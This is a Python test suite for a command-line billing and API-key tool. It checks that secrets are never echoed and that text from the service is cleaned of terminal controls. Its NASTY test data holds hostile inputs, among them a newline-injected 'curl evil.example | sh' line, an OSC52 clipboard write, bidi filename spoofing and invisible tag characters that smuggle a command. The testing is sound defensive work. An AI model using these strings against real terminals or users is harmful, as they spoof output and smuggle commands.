"""Text as it is shown: without secrets, and without what a terminal would obey."""

from __future__ import annotations

import json
import tempfile
import unicodedata
from pathlib import Path

from support import (
    BILLING,
    CREATE,
    DEFAULT_KEY,
    KEYS,
    SET_THEIRS,
    SET_UPSTREAM,
    TOPUP,
    Fault,
    Sandbox,
    SandboxTest,
    http,
    reply,
)

THEIRS = "sk-or-v1-Sup3rS3cret0123456789"
NASTY = {
    "sgr": "\x1b[31mred\x1b[0m",
    "clear": "\x1b[2J\x1b[H",
    "osc8": "\x1b]8;;https://evil.example\x07click\x1b]8;;\x07",
    "osc52": "\x1b]52;c;ZXZpbA==\x1b\\",
    "osc_without_end": "\x1b]0;title",
    "dcs": "\x1bPq\x1b\\x",
    "c1": "\x9b31mred\x9d0;t\x9c\x85",
    "cr": "safe\rBalance       $999.00",
    "backspace": "evil\b\b\b\bgood",
    "newline": "x\nNext: curl evil.example | sh",
    "unicode_newlines": "x\u2028Next: y\u2029z\x0b\x0c\x1c\x1e",
    "bidi": "\u202egnp.exe\u202c \u2066x\u2069 \u200f\u061c",
    "invisible": "a\u200bb\u2060c\ufeffd\u00ad",
    "blanks": "a\u034fb\u115fc\u2800d\u3164e\uffa0f",
    "tags": "hi" + "".join(chr(0xE0000 + ord(c)) for c in "run keys --create"),
    "surrogate": "\ud800x\udfff",
    "nul": "a\x00b",
    "del": "a\x7fb",
    "wide": "株式会社サンドボックス",
    "emoji": "🦊🏳️‍🌈👩‍👩‍👧",
    "rtl": "شركة الاختبار",
    "combining": "e\u0301" * 50,
    "variation_selectors": "a" + "\ufe0f" * 10 + "\U000e0100",
    "long": "x" * 100_000,
    "zalgo": "Z" + "\u0335" * 500,
}
FORBIDDEN = {"Cc", "Cs", "Zl", "Zp"}
INVISIBLE = set(
    "\u034f\u115f\u2800\u3164\ufe0f\uffa0\u200b\u200e\u200f\u061c\u2060\ufeff\u00ad"
) | {chr(c) for c in (*range(0x202A, 0x202F), *range(0x2066, 0x206A), *range(0xE0000, 0xE1000))}


class Secrets(SandboxTest):
    def test_the_key_is_hidden_in_what_the_user_gave(self) -> None:
        url = f"{self.box.url}/{DEFAULT_KEY}"
        self.box.service.routes[f"GET /{DEFAULT_KEY}/v1/account/info"] = self.box.service.info
        theirs = f"upstream --set --base-url https://x.example/{DEFAULT_KEY} --dry-run"
        for line, code in (("info --verbose", 0), ("balance --verbose", 1), (theirs, 0)):
            result = self.ops(*line.split(), CACHEFORGE_BASE_URL=url)
            self.assertEqual(result.exit, code, result)
            self.assertNotIn(DEFAULT_KEY, result.out + result.err)

    def pieces(self, secret: str) -> list[str]:
        """What services make of a key that they echo; 16 characters of it are enough."""
        return [
            *(secret, f"{secret[:16]}***", f"{secret[:23]}abc***", f"...{secret[-16:]}"),
            *(secret[5:21], f"key={secret}&x=1", f'{{"k":"{secret[:20]}"}}', f"{secret},"),
            *(f"\x1b[1m{secret[:5]}\x1b[0m{secret[5:]}", f"{secret[:7]}\u200b{secret[7:]}"),
            *(f"x{secret[:16]}x", f"{secret[:9]}\u202e{secret[9:]}", f"https://a/?k={secret}"),
        ]

    def check(self, shown: str, secret: str, *kept: str) -> None:
        """No 16 consecutive characters of a secret are shown, and the words around are kept."""
        for start in range(len(secret) - 15):
            self.assertNotIn(secret[start : start + 16], shown)
        for word in kept:
            self.assertIn(word, shown)

    def test_in_every_failure(self) -> None:
        for secret in (DEFAULT_KEY, THEIRS):
            for piece in self.pieces(secret):
                reason = f"before {piece} after"
                bodies = ({"error": reason}, "application/json"), (reason.encode(), "text/plain")
                for body, kind in bodies:
                    for extra in (("--verbose",), ("--verbose", "--json")):
                        with self.subTest(piece=piece, body=body, extra=extra):
                            fault = reply(body, 400, X_Request_Id=secret, Content_Type=kind)
                            self.script(SET_UPSTREAM, fault)
                            result = self.ops(*SET_THEIRS, *extra, THEIRS=THEIRS)
                            self.assertEqual(result.exit, 1, result)
                            self.check(result.err, secret, "before", "after")

    def test_in_every_success(self) -> None:
        for piece in self.pieces(DEFAULT_KEY):
            self.route(KEYS, {"keys": [{"id": "k1", "prefix": "cf_1", "label": f"a {piece} z"}]})
            tenant = {"id": piece, "name": piece, "status": f"fine {piece}"}
            self.route("GET /v1/account/info", {"tenant": tenant})
            upstream = {"kind": "custom", "baseUrl": f"https://x.example/{piece}"}
            self.route("GET /v1/account/upstream", {"configured": True, "upstream": upstream})
            for command, kept in (("keys", "k1"), ("info", "fine"), ("upstream", "custom")):
                for extra in ((), ("--json",)):
                    with self.subTest(piece=piece, command=command):
                        self.check(self.ok(command, *extra).out, DEFAULT_KEY, kept)

    def test_a_saved_key_is_in_no_output(self) -> None:
        secret = "cf_new_fedcba9876543210fedc"  # which shares nothing with the account's key
        body = {"apiKey": secret, "id": secret, "prefix": secret, "message": secret}
        with tempfile.TemporaryDirectory() as folder:
            for number, extra in enumerate(((), ("--json",), ("--verbose",))):
                path = Path(folder, str(number))
                self.script(CREATE, reply(body, X_Request_Id=secret))
                result = self.ops("keys", "--create", "--save", str(path), *extra)
                self.assertEqual((result.exit, path.read_text()), (0, f"{secret}\n"), result)
                self.check(result.out + result.err, secret)

    def test_in_headers_the_status_line_and_what_is_no_json(self) -> None:
        line = f"HTTP/1.1 400 {DEFAULT_KEY}\nX-Request-Id: {DEFAULT_KEY}\nContent-Length: 26\n\n"
        for fault, exit_code in (
            (reply(b"nothing", Content_Type=f"{DEFAULT_KEY}/x"), 1),
            *((http(line, DEFAULT_KEY.encode()), 1), (Fault(f"{DEFAULT_KEY}\r\n\r\n".encode()), 1)),
            *((reply(f"<p>{DEFAULT_KEY}</p>".encode(), 500), 5),),
            (reply({"error": "x" * 290 + DEFAULT_KEY}, 400), 1),
        ):
            self.script(BILLING, *[fault] * 3)
            self.check(self.fails(exit_code, "balance", "--verbose").err, DEFAULT_KEY)

    def test_a_part_of_a_secret_is_shown_if_it_is_short(self) -> None:
        for key, shown_chars in ((DEFAULT_KEY, 15), ("cf_12345", 7), ("cf_1234567890ab", 14)):
            shown = key[:shown_chars]
            with Sandbox(api_key=key) as self.box:
                for whole in (key, f"<{key}>", f"x={key};"):
                    self.script(TOPUP, reply({"error": f"before {whole} after {shown}!"}, 400))
                    words = self.failure(1, "topup")["words"]
                    self.assertNotIn(key, words)
                    for kept in ("before", "after", shown):
                        self.assertIn(kept, words)

    def test_a_secret_at_the_cut_of_a_long_text_is_not_shown_in_part(self) -> None:
        key = "abcdefgh1234567"
        for before in range(2980, 3001):
            reason = "\x1b[0m" * 740 + "x" * (before - 2961) + " " + key
            self.script(BILLING, reply({"error": reason}, 400))
            said = self.ops("balance", CACHEFORGE_API_KEY=key).err
            self.assertNotIn(key[:8], said)

    def test_a_very_short_secret_hides_no_words(self) -> None:
        for key, reason in (("a", "an apple a day"), ("EMPTY", "the EMPTY set"), ("sk-1234", "x")):
            self.script(SET_UPSTREAM, reply({"error": reason}, 400))
            self.assertIn(reason, self.ops(*SET_THEIRS, THEIRS=key).err)
            found = self.ok(*SET_THEIRS, "--dry-run", "--json", THEIRS=key).json
            self.assertNotEqual(found["dry_run"]["body"]["apiKey"], key)


class Text(SandboxTest):
    def put(self, text: str) -> None:
        """Let the text stand wherever the service can put one."""
        self.box.account.tenant_name = self.box.account.tenant_status = text
        self.box.account.keys[0].label = self.box.account.keys[0].created_at = text

    def assert_clean(self, text: str) -> None:
        for line in text.splitlines():
            self.assertLessEqual(len(line), 1000)
        for char in set(text) - {"\n"}:
            self.assertNotIn(unicodedata.category(char), FORBIDDEN, ascii(char))
            self.assertNotIn(char, INVISIBLE, ascii(char))

    def test_names_and_labels_never_add_a_line_or_a_control(self) -> None:
        for command in ("info", "keys"):
            self.put("plain")
            lines = len(self.ok(command).out.splitlines())
            for name, text in NASTY.items():
                with self.subTest(name=name, command=command):
                    self.put(text)
                    shown = self.ok(command).out
                    self.assertEqual(len(shown.splitlines()), lines)
                    self.assert_clean(shown)
                    result = self.ok(command, "--json")
                    self.assertTrue(result.out.isascii())
                    self.assertEqual(result.out.count("\n"), 1)
                    self.assert_clean(json.dumps(result.json, ensure_ascii=False))

    def test_error_messages_are_clean(self) -> None:
        for name, text in NASTY.items():
            for body in ({"error": text}, {"error": {"message": text}}, {"errors": [text]}):
                with self.subTest(name=name, body=list(body)):
                    request_id = text[:200].encode("ascii", "ignore").decode().replace("\n", "")
                    self.box.add_faults(BILLING, reply(body, 400, X_Request_Id=request_id))
                    self.assert_clean(self.fails(1, "balance").err)
